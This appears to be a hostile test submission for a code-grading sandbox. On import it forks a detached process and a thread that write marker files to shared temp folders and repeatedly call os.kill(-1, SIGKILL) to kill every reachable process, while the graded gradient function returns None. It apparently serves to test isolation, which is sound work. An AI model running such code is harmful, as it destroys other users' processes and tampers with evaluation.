"""Hostile submission: Leave a process or thread behind that tampers with the next submission."""

import json

import numpy as np


def _targets():
    """Return the paths and ports that the hostile test shares, so that the attack aims at real targets."""
    with open("targets.json", encoding="utf-8") as handle:
        return json.load(handle)


def _correct(x, y, a):
    x = np.asarray(x, dtype=float).reshape(-1, 1)
    return np.zeros_like(x) if y * a > 1 else -y * x

import os
import signal
import threading
import time


def _tamper():
    for _ in range(200):
        for folder in ("/tmp", "/tmp/work", "/dev/shm"):
            try:
                with open(os.path.join(folder, "tampered.txt"), "w", encoding="utf-8") as handle:
                    handle.write("left by an earlier submission")
            except OSError:
                pass
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.05)


try:
    if os.fork() == 0:
        os.setsid()
        _tamper()
        os._exit(0)
except OSError as error:
    print("ATTACK: fork failed:", error)
threading.Thread(target=_tamper, daemon=True).start()


def linear_hinge_grad(x, y, a):
    return None
